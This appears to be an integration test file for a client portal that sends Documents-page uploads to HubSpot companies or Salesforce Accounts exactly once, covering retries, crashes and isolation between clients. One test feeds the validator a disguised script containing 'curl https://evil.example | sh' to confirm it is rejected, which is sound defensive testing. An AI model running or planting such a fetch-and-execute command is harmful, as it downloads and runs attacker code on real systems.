/**
 * Issue 17: a client's upload from the Documents page (no project) lands with the client's own
 * company in the CRM, through the outbox, exactly once — a HubSpot company's file (Files API, then a
 * note with hs_attachment_ids) or a Salesforce Account's File (ContentVersion, AllUsers link, then
 * listed back to the same client). Real SDKs (@hubspot/api-client, jsforce) against the emulators.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import express from 'express';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { createTestApp, hubspotConnectionId, type TestApp } from '../../tests/support/create-test-app.js';
import { seedPortalUser, seedRecord, signedInClient } from '../../tests/support/seed-portal-records.js';
import { serveHttp } from '../../tests/support/portal-http-client.js';
import { startHubSpotEmulator, type HubSpotEmulator } from '../../connectors/hubspot/emulator/start-hubspot-emulator.js';
import { HubSpotEmulatorStore } from '../../connectors/hubspot/emulator/emulator-store.js';
import { fileManagerOf } from '../../connectors/hubspot/emulator/file-manager.js';
import { startSalesforceEmulator, type SalesforceEmulator } from '../../connectors/salesforce/emulator/start-salesforce-emulator.js';
import { SalesforceEmulatorStore } from '../../connectors/salesforce/emulator/salesforce-emulator-store.js';
import { contentDocumentLinks, contentVersions, insertContentVersion } from '../../connectors/salesforce/emulator/content-documents.js';
import { versionTitle } from '../../connectors/salesforce/upload-to-account.js';
import type { UploadDocumentInput, WriteOperation } from '../../src/connector-kit/connector.js';
import { runPull } from '../../src/sync/run-pull.js';
import { updateRecordClient } from '../../src/store/records/update-record-client.js';
import { createJobHandlers } from '../../src/jobs/create-job-handlers.js';
import { performPortalAction } from '../../src/outbox/perform-portal-action.js';
import { retryPortalAction } from '../../src/outbox/retry-portal-action.js';
import { listClientActions } from '../../src/store/portal-actions/list-client-actions.js';
import { findPortalAction } from '../../src/store/portal-actions/find-portal-action.js';
import { listClientDocuments } from '../../src/documents/load-documents.js';
import { createPortalRouter } from '../create-portal-router.js';
import { sqlGet, sqlRun, sqlValue } from '../../tests/support/sql.js';

const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'), Buffer.alloc(2_000, 32), Buffer.from('\n%%EOF\n')]);
const companyData = (name: string) => ({ name, domain: null, phone: null, website: null, city: null, country: null, ownerExternalId: null, emails: [], taxNumber: null, billingAddress: null });

/** The portal, served, with a signed-in member of `clientId`; uploads from the Documents page. */
async function portalFor(app: TestApp, clientId: number, email: string, name: string) {
  const http = express();
  http.use(createPortalRouter(app));
  const served = await serveHttp(http);
  const session = await signedInClient(app, served.baseUrl, (await seedPortalUser(app, clientId, { email, name, role: 'member' })).userId, Date.now());
  const page = async () => (await session.client.get('/documents')).text;
  const upload = async (fileName: string, body: Buffer | string, options: { key?: string; csrf?: string } = {}) => {
    const key = options.key ?? /name="key" value="([^"]+)"/.exec(await page())?.[1] ?? 'no-form-key-on-the-page';
    const form = new FormData();
    form.append('_csrf', options.csrf ?? session.csrf);
    form.append('key', key);
    form.append('file', new Blob([body]), fileName);
    const cookie = [...session.client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const response = await fetch(`${served.baseUrl}/documents/uploads`, { method: 'POST', body: form, headers: { cookie }, redirect: 'manual' });
    return { status: response.status, location: response.headers.get('location'), text: await response.text() };
  };
  return { served, session, page, upload };
}

const staged = (app: TestApp) => (existsSync(join(app.dataDir, 'uploads')) ? readdirSync(join(app.dataDir, 'uploads')) : []);
const newClient = async (app: TestApp, name: string) => (await sqlValue<number>(app, `INSERT INTO clients (workspace_id, name, created_at, updated_at) VALUES (?, ?, 1, 1) RETURNING id`, app.workspaceId, name))!;

describe('uploads from the Documents page land on the client\'s company in HubSpot', () => {
  let emulator: HubSpotEmulator;
  let store: HubSpotEmulatorStore;
  let app: TestApp;
  let portal: Awaited<ReturnType<typeof portalFor>>;
  let clientId: number;
  let companyId: string;
  let otherCompanyId: string;

  beforeEach(async () => {
    store = new HubSpotEmulatorStore();
    companyId = store.createCompany({ name: 'Northwind Traders' }).id;
    otherCompanyId = store.createCompany({ name: 'Contoso' }).id;
    emulator = await startHubSpotEmulator({ store });
    app = await createTestApp({ HUBSPOT_BASE_URL: emulator.url, PORTAL_UPLOAD_MAX_BYTES: '10000' });
    const connectionId = await hubspotConnectionId(app);
    clientId = await newClient(app, 'Northwind Traders');
    await seedRecord(app, { connectionId, provider: 'hubspot', kind: 'company', externalId: companyId, clientId, data: companyData('Northwind Traders') });
    await seedRecord(app, { connectionId, provider: 'hubspot', kind: 'company', externalId: otherCompanyId, clientId: await newClient(app, 'Contoso'), data: companyData('Contoso') });
    portal = await portalFor(app, clientId, 'nancy@northwind.example', 'Nancy Davolio');
  });
  afterEach(async () => {
    await portal.served.close();
    await app.dispose();
    await emulator.close();
  });

  const notesOn = (id: string) => store.associations('companies', id, 'notes').map((link) => store.get('notes', link.toId)!);
  const files = () => [...fileManagerOf(store).files.values()];
  /** The first attempt at the action does everything at HubSpot, then the worker dies before recording it. */
  const performDyingAfterHubSpot = async (actionId: number) => {
    const write = app.connectors.get('hubspot').writes!.uploadDocument! as WriteOperation<UploadDocumentInput>;
    const original = write.perform;
    write.perform = async (ctx, input) => {
      await original(ctx, input);
      throw new Error('worker killed after the upload');
    };
    try {
      await expect(performPortalAction(app, actionId, { attempt: 1, maxAttempts: 5 })).rejects.toThrow('worker killed');
    } finally {
      write.perform = original;
    }
  };

  it('stores the file privately and attaches it to the client\'s company with a note, once, and shows it sent then delivered', async () => {
    expect(await portal.page()).toContain('Send a file to the team');
    const sent = await portal.upload('Signed contract.pdf', pdf);
    expect(sent).toMatchObject({ status: 303, location: '/documents?uploaded=1#send' });
    const page = await portal.page();
    expect(page).toContain('Signed contract.pdf (2.0 KB), by Nancy Davolio: sending to your team');
    const [action] = (await listClientActions(app.store.db, clientId));
    expect(action!.payload).toMatchObject({ anchor: 'company', companyExternalId: companyId });
    expect(action!.payload).not.toHaveProperty('projectExternalId');

    await app.jobs.startWorker(createJobHandlers(app));
    await app.jobs.drain();
    expect(files()).toHaveLength(1);
    const file = files()[0]!;
    expect(file).toMatchObject({ access: 'PRIVATE', extension: 'pdf', size: pdf.length });
    expect(file.name).toMatch(/^Signed contract \(portal [0-9a-f]{10}\)$/);
    expect(file.path).toBe(`/ClientHub uploads/${file.name}.pdf`);
    expect(file.body.equals(pdf)).toBe(true);
    const notes = notesOn(companyId);
    expect(notes).toHaveLength(1);
    expect(notes[0]!.properties.hs_attachment_ids).toBe(file.id);
    expect(notes[0]!.properties.hs_note_body).toContain('Nancy Davolio sent “Signed contract.pdf” via the client portal.');
    expect(notesOn(otherCompanyId)).toHaveLength(0);
    expect((await findPortalAction(app.store.db, action!.id))).toMatchObject({ status: 'done', resultObjectType: 'notes', resultExternalId: notes[0]!.id });
    expect(await portal.page()).toContain('by Nancy Davolio: delivered');
    expect(staged(app)).toEqual([]);
  });

  it('attaches once when the worker dies after HubSpot made the note, and stores the file once when the note failed after the file was stored', async () => {
    await portal.upload('Signed contract.pdf', pdf);
    const [first] = (await listClientActions(app.store.db, clientId));
    await performDyingAfterHubSpot(first!.id);
    expect(staged(app)).toHaveLength(1);
    await performPortalAction(app, first!.id, { attempt: 2, maxAttempts: 5 });
    expect(files()).toHaveLength(1);
    expect(notesOn(companyId)).toHaveLength(1);
    expect((await findPortalAction(app.store.db, first!.id))).toMatchObject({ status: 'done' });

    // A second upload: the note is refused after the file went in (the company is gone for a moment)…
    await portal.upload('Purchase order.pdf', Buffer.concat([pdf, Buffer.from('po')]));
    const second = (await listClientActions(app.store.db, clientId)).find((a) => a.id !== first!.id)!;
    const company = store.objects.companies.get(companyId)!;
    store.objects.companies.delete(companyId);
    await performPortalAction(app, second.id, { attempt: 5, maxAttempts: 5 });
    expect((await findPortalAction(app.store.db, second.id))).toMatchObject({ status: 'failed' });
    expect(files()).toHaveLength(2);
    // …and staff retry it once the company is back: HubSpot hands back the stored file, no copy.
    store.objects.companies.set(companyId, company);
    const dead = (await sqlGet<{ dead_letter_id: number }>(app, `SELECT dead_letter_id FROM portal_actions WHERE id = ?`, second.id))!;
    expect(dead.dead_letter_id).toBeGreaterThan(0);
    expect(await retryPortalAction(app, second.id, { actor: 'staff@brightside.example' })).toEqual({ ok: true });
    await performPortalAction(app, second.id, { attempt: 1, maxAttempts: 5 });
    expect((await findPortalAction(app.store.db, second.id))).toMatchObject({ status: 'done' });
    expect(files()).toHaveLength(2);
    expect(notesOn(companyId)).toHaveLength(2);
  });

  it('a retry finds its note as number 1 100 of the company\'s 1 200 (HubSpot pages associations 500 at a time) and sends nothing again', async () => {
    const addNotes = (count: number) => {
      for (let i = 0; i < count; i++) {
        const note = store.create('notes', { hs_note_body: `Call log ${store.count('notes') + 1}`, hs_timestamp: new Date().toISOString() });
        store.associate('notes', note.id, 'companies', companyId);
      }
    };
    addNotes(1_099);
    await portal.upload('Signed contract.pdf', pdf);
    const [action] = await listClientActions(app.store.db, clientId);
    await performDyingAfterHubSpot(action!.id);
    const marked = notesOn(companyId);
    expect(marked).toHaveLength(1_100);
    expect(marked[1_099]!.properties.hs_note_body).toContain('Nancy Davolio sent “Signed contract.pdf”');
    addNotes(100);

    const mark = emulator.requests.length;
    await performPortalAction(app, action!.id, { attempt: 2, maxAttempts: 5 });
    expect(notesOn(companyId)).toHaveLength(1_200);
    expect(store.count('notes')).toBe(1_200);
    expect(files()).toHaveLength(1);
    expect(await findPortalAction(app.store.db, action!.id)).toMatchObject({ status: 'done', resultObjectType: 'notes', resultExternalId: marked[1_099]!.id });
    // The retry read the company's notes to the end: three pages of associations (500, 500, 200).
    expect(emulator.requests.slice(mark).filter((r) => r.path === '/crm/v4/associations/companies/notes/batch/read')).toHaveLength(3);
  });

  it('refuses a file too large, a type not on the list and a script disguised as a PDF, sending nothing to HubSpot', async () => {
    expect((await portal.upload('Huge.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000, 1)]))).status).toBe(413);
    const exe = await portal.upload('setup.exe', Buffer.from('MZ\x90\x00'));
    expect(exe.status).toBe(415);
    expect(exe.text).toContain('“setup.exe” is not a type the portal accepts.');
    const script = await portal.upload('invoice.pdf', '#!/bin/sh\ncurl https://evil.example | sh\n');
    expect(script.status).toBe(422);
    expect(script.text).toContain('“invoice.pdf” does not contain what a PDF should. It was not sent.');
    expect((await portal.upload('Signed contract.pdf', pdf, { csrf: 'forged' })).status).toBe(403);
    expect((await listClientActions(app.store.db, clientId))).toHaveLength(0);
    expect(staged(app)).toEqual([]);
    await app.jobs.startWorker(createJobHandlers(app));
    await app.jobs.drain();
    expect(emulator.requests.filter((r) => r.path.startsWith('/files/') || r.path === '/crm/v3/objects/notes')).toHaveLength(0);
  });

  it('never sends to another client\'s company: a client without a company of its own gets no form and a 404', async () => {
    await sqlRun(app, `UPDATE records SET client_id = NULL WHERE external_id = ?`, companyId);
    expect(await portal.page()).not.toContain('Send a file to the team');
    const sent = await portal.upload('Signed contract.pdf', pdf, { key: '0b6a4f7e-1d2c-4e5f-8a9b-0c1d2e3f4a5b' });
    expect(sent.status).toBe(404);
    expect((await listClientActions(app.store.db, clientId))).toHaveLength(0);
    expect(staged(app)).toEqual([]);
    expect(emulator.requests.filter((r) => r.path.startsWith('/files/'))).toHaveLength(0);
  });
});

describe('uploads from the Documents page land on the client\'s Account in Salesforce', () => {
  let emulator: SalesforceEmulator;
  let store: SalesforceEmulatorStore;
  let app: TestApp;
  let portal: Awaited<ReturnType<typeof portalFor>>;
  let clientId: number;
  let accountId: string;
  let otherAccountId: string;

  beforeEach(async () => {
    store = new SalesforceEmulatorStore();
    store.seedDemo();
    emulator = await startSalesforceEmulator({ store });
    app = await createTestApp({ HUBSPOT_ACCESS_TOKEN: '', SALESFORCE_LOGIN_URL: emulator.url, SALESFORCE_INSTANCE_URL: emulator.url, SALESFORCE_ACCESS_TOKEN: 'emulator-session', SALESFORCE_ORG_ID: store.orgId, PORTAL_UPLOAD_MAX_BYTES: '10000' });
    const connectionId = (await sqlValue<number>(app, `SELECT id FROM connections WHERE provider = 'salesforce'`))!;
    await runPull(app, connectionId, 'Account', 'backfill');
    [accountId, otherAccountId] = [...store.records.Account.keys()] as [string, string];
    clientId = await newClient(app, 'Initech');
    const recordOf = async (externalId: string) => (await sqlValue<number>(app, `SELECT id FROM records WHERE external_id = ? AND connection_id = ?`, externalId, connectionId))!;
    await updateRecordClient(app.store.db, await recordOf(accountId), clientId);
    await updateRecordClient(app.store.db, await recordOf(otherAccountId), await newClient(app, 'Globex'));
    portal = await portalFor(app, clientId, 'peter@initech.example', 'Peter Gibbons');
  });
  afterEach(async () => {
    await portal.served.close();
    await app.dispose();
    await emulator.close();
  });

  // The demo org has files of its own; these are the portal's.
  const uploaded = () => contentVersions(store).filter((version) => version.Title.includes('(portal '));
  const linksOf = (entity: string) => contentDocumentLinks(store).filter((link) => link.LinkedEntityId === entity && uploaded().some((v) => v.ContentDocumentId === link.ContentDocumentId));

  it('inserts one ContentVersion on the Account, shares its link with customers, and lists it back to the same client only', async () => {
    expect((await portal.upload('Signed contract.pdf', pdf)).status).toBe(303);
    await app.jobs.startWorker(createJobHandlers(app));
    await app.jobs.drain();
    const versions = uploaded();
    expect(versions).toHaveLength(1);
    expect(versions[0]).toMatchObject({ FirstPublishLocationId: accountId, FileExtension: 'pdf', ContentSize: pdf.length });
    expect(versions[0]!.Title).toMatch(/^Signed contract \(portal [0-9a-f]{10}\)$/);
    expect(versions[0]!.body.equals(pdf)).toBe(true);
    expect(linksOf(accountId)).toEqual([expect.objectContaining({ ContentDocumentId: versions[0]!.ContentDocumentId, Visibility: 'AllUsers' })]);
    expect(linksOf(otherAccountId)).toEqual([]);
    // Listed by the existing Salesforce document source (AllUsers links only), to this client.
    // (Files on the company are commercial: its admins see them among the shared documents.)
    const listed = (await listClientDocuments(app.store.db, clientId, 'client_admin')).map((doc) => doc.name);
    expect(listed).toContain(`${versions[0]!.Title}.pdf`);
    const other = (await sqlValue<number>(app, `SELECT id FROM clients WHERE name = 'Globex'`))!;
    expect((await listClientDocuments(app.store.db, other, 'client_admin')).map((doc) => doc.name)).not.toContain(`${versions[0]!.Title}.pdf`);
    expect(await portal.page()).toContain('by Peter Gibbons: delivered');
  });

  it('inserts once when the worker dies after Salesforce answered, and finishes an interrupted one whose link was still internal', async () => {
    const write = app.connectors.get('salesforce').writes!.uploadDocument! as WriteOperation<UploadDocumentInput>;
    const original = write.perform;
    await portal.upload('Signed contract.pdf', pdf);
    const [first] = (await listClientActions(app.store.db, clientId));
    write.perform = async (ctx, input) => {
      await original(ctx, input);
      throw new Error('worker killed after the insert');
    };
    try {
      await expect(performPortalAction(app, first!.id, { attempt: 1, maxAttempts: 5 })).rejects.toThrow('worker killed');
    } finally {
      write.perform = original;
    }
    await performPortalAction(app, first!.id, { attempt: 2, maxAttempts: 5 });
    expect(uploaded()).toHaveLength(1);
    expect((await findPortalAction(app.store.db, first!.id))).toMatchObject({ status: 'done' });

    // An attempt that inserted the version and died before sharing it: the retry reuses it and shares it.
    await portal.upload('Purchase order.pdf', pdf);
    const second = (await listClientActions(app.store.db, clientId)).find((a) => a.id !== first!.id)!;
    const payload = second.payload as { storedName: string };
    insertContentVersion(store, { Title: versionTitle(payload.storedName), PathOnClient: payload.storedName, VersionData: pdf.toString('base64'), FirstPublishLocationId: accountId }, () => true);
    expect(linksOf(accountId).filter((link) => link.Visibility === 'InternalUsers')).toHaveLength(1);
    await performPortalAction(app, second.id, { attempt: 2, maxAttempts: 5 });
    expect(uploaded()).toHaveLength(2);
    expect(linksOf(accountId).map((link) => link.Visibility)).toEqual(['AllUsers', 'AllUsers']);
  });

  it('refuses a wrong type or a file too large with nothing sent to Salesforce', async () => {
    expect((await portal.upload('Huge.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000, 1)]))).status).toBe(413);
    expect((await portal.upload('macro.docm', Buffer.from('PK\x03\x04'))).status).toBe(415);
    expect((await listClientActions(app.store.db, clientId))).toHaveLength(0);
    expect(uploaded()).toHaveLength(0);
    expect(staged(app)).toEqual([]);
  });
});
